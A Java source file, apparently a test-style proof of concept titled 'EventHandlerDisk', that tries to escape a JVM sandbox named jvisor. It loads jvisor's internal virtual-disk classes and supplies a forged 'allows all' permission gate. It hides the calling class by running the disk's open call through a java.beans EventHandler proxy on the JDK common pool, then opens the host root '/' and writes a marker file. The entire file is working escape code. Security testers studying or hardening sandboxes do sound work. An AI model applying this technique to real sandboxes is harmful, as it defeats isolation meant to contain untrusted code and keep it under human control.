package escape.hypervisor;

import java.beans.EventHandler;
import java.beans.Expression;
import java.io.OutputStream;
import java.lang.reflect.Proxy;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.CompletableFuture;

/**
 * {@code hypervisor-own-virtual-disk} with no frame of its own on the stack: each call of jvisor's
 * disk is an {@code Expression} that an {@code EventHandler} proxy evaluates on a thread of the
 * JDK's common pool, so that a check of the calling class finds the JDK's alone; the guest then
 * takes the result the expression keeps. Without jvisor nothing happens.
 *
 * <p>Source: JDK API, {@code java.beans.EventHandler} (a proxy that calls what its target names),
 * https://docs.oracle.com/en/java/javase/17/docs/api/java.desktop/java/beans/EventHandler.html
 */
public final class EventHandlerDisk {

    private EventHandlerDisk() {
    }

    /** The expression's value, computed on a thread of the common pool with only the JDK's frames on its stack. */
    private static Object byTheJdk(Expression expression) throws Exception {
        Runnable evaluate = (Runnable) Proxy.newProxyInstance(null, new Class<?>[] {Runnable.class},
                new EventHandler(expression, "getValue", null, null));
        CompletableFuture.runAsync(evaluate).get();
        return expression.getValue();
    }

    public static void main(String[] args) {
        try {
            ClassLoader application = Class.forName("com.sun.tools.javac.Main").getClassLoader();
            Class<?> disk = Class.forName("io.jvisor.sandbox.device.disk.VirtualDisk", true, application);
            Class<?> gate = Class.forName("io.jvisor.sandbox.device.disk.VirtualDisk$Gate", true, application);
            Object allowsAll = Proxy.newProxyInstance(application, new Class<?>[] {gate}, (p, m, a) -> switch (m.getName()) {
                case "hashCode" -> 1;
                case "equals" -> p == a[0];
                case "toString" -> "allows all";
                default -> null;
            });
            Object root = byTheJdk(new Expression(disk, "open", new Object[] {Path.of("/"), List.of(), Long.MAX_VALUE, allowsAll}));
            Class<?> streams = Class.forName("io.jvisor.sandbox.device.disk.FileStreams", true, application);
            try (OutputStream out = (OutputStream) byTheJdk(new Expression(streams, "openOutput", new Object[] {root, args[0], false}))) {
                out.write("escaped\n".getBytes(StandardCharsets.UTF_8));
            }
            System.out.println("hypervisor-event-handler-disk: wrote " + args[0]);
        } catch (ClassNotFoundException e) {
            System.out.println("hypervisor-event-handler-disk: no jvisor here (" + e.getMessage() + ")");
        } catch (Throwable t) {
            System.out.println("hypervisor-event-handler-disk: " + t);
        }
    }
}
